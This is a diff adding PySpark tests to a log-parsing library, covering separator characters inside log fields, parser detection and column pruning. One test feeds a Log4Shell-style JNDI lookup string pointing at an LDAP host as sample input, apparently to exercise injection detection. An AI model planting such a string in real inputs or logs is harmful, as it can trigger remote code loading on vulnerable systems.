@@ -58,3 +58,42 @@ def test_lines_of_one_length_are_dealt_out(spark):
         assert {tuple(r["variables"]) for r in done.collect()} == {(str(i),) for i in range(20)}
     finally:
         spark.conf.set("spark.sql.autoBroadcastJoinThreshold", old)
+
+
+def _raw(spark, *lines):
+    rows = spark.createDataFrame([("j", "s", i, x) for i, x in enumerate(lines)], "job_id string, source_name string, line_number long, content string")
+    return rows.withColumn("received_at", F.lit(REFERENCE).cast("timestamp"))
+
+
+def test_lines_that_hold_a_mark_keep_their_groups(spark):
+    """The marks between groups move no group of a line that holds them itself; a code was read from the wrong one, which failed the job."""
+    web = '10.20.0.1 - us﷑er [02/Jan/2024:03:04:05 +0000] "GET /﷒a﷐ HTTP/1.1" 404 77 "-" "x﷑host﷒y"'
+    auth = "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a﷑b from 10.20.0.1 port 22 ssh2"
+    rows = {r["line_number"]: r for r in L.processed(_raw(spark, web, auth)).collect()}
+    assert (rows[0]["username"], rows[0]["response_code"], rows[0]["url"], rows[0]["fields"]["user_agent"]) == ("us﷑er", 404, "/﷒a﷐", "x﷑host﷒y")
+    assert (rows[1]["username"], rows[1]["source_port"], rows[1]["host"]) == ("a﷑b", 22, "h-1")
+
+
+def test_sure_parser_is_the_first_of_all(spark):
+    """Without its list of candidates a line's parser is the one that heads that list."""
+    from logsluice.operators import parsers as P
+
+    lines = [
+        "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a from 10.20.0.1 port 22 ssh2", "<34>1 2024-01-02T03:04:05Z h app 7 ID47 - job 5", "a=1 b=2 c", "2024-01-02T03:04:05|h|u|1.2.3.4|deny", "words", "", None,
+        "Jan 02 03:04:05 h kernel: IPTABLES DROP SRC=1.1.1.1 DST=2.2.2.2", '10.20.0.1 - u [02/Jan/2024:03:04:05 +0000] "GET / HTTP/1.1" 200 7 "-" "a"', '{"a": 1, "action=": 2}', "sudo: x : TTY=1 src=1 rt=0.1",
+    ]
+    df = _raw(spark, *lines)
+    columns = ["line_number", "parser", "format", "format_confidence"]
+    got, want = (sorted(P.detect(df, listed=listed).select(*columns).collect()) for listed in (False, True))
+    assert got == want
+    assert "candidates" not in P.detect(df, listed=False, hint="JSON").columns
+
+
+def test_counts_work_out_no_times(spark):
+    """What the named columns do not rest on is left out of the plan, and no line is."""
+    raw = _raw(spark, "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a from 10.20.0.1 port 22 ssh2", "words", "words", " ", "${jndi:ldap://1.2.3.4/a}")
+    done = L.processed(raw, columns=L.COUNTED)
+    plan = done._jdf.queryExecution().optimizedPlan().toString()
+    assert "no injection indicators" not in plan and "field_confidence" not in plan
+    assert sorted(r["disposition"] for r in done.collect()) == sorted(r["disposition"] for r in L.processed(raw).collect())
+    assert done.columns == list(L.COUNTED)
